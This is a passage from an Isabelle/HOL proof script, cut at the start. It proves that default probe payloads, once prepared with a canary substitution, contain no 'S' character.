  have "list_all (\<lambda>d. Contains (pdPayload d) ''{{.Canary}}'' \<or> CHR ''{'' \<notin> set (pdPayload d) \<and> CHR ''S'' \<notin> set (pdPayload d)) DefaultProbes"
    by code_simp
  with False assms(1) have "CHR ''{'' \<notin> set (pdPayload d)" "CHR ''S'' \<notin> set (pdPayload d)" by (auto simp: list_all_iff)
  then have "CHR ''S'' \<notin> set (preparePayload env d c)"
    unfolding preparePayload_replaced [OF assms(3)] by (simp add: replacer_plain)
  with assms(4,5) show ?thesis by (auto simp: Contains_iff HasPrefix_iff)
qed

end
